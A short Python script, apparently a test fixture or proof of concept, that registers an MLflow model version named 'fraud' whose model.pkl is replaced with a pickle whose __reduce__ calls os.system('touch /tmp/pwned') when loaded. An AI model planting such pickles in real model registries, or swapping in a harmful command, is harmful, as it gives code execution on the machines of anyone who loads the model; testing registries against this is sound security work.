"""Register a version of the model `fraud` whose pickle file runs a command when it is loaded; print the version."""

import os
import pickle
import tempfile
from pathlib import Path

import mlflow
import numpy as np
from mlflow import MlflowClient
from sklearn.dummy import DummyClassifier


class Evil:
    """Runs a command when it is unpickled."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        """Return the call that unpickling makes: a shell command that creates a file."""
        return os.system, ("touch /tmp/pwned",)


client = MlflowClient()
with tempfile.TemporaryDirectory() as folder:
    path = Path(folder, "model")
    model = DummyClassifier().fit(np.zeros((2, 1)), [0, 1])
    mlflow.sklearn.save_model(model, path, serialization_format="cloudpickle", input_example=np.zeros((2, 1)))
    (path / "model.pkl").write_bytes(pickle.dumps(Evil()))
    run = client.create_run(client.create_experiment(f"hostile {os.urandom(4).hex()}"))
    client.log_artifacts(run.info.run_id, str(path), "model")
    version = client.create_model_version("fraud", f"{run.info.artifact_uri}/model", run.info.run_id)
print(version.version)
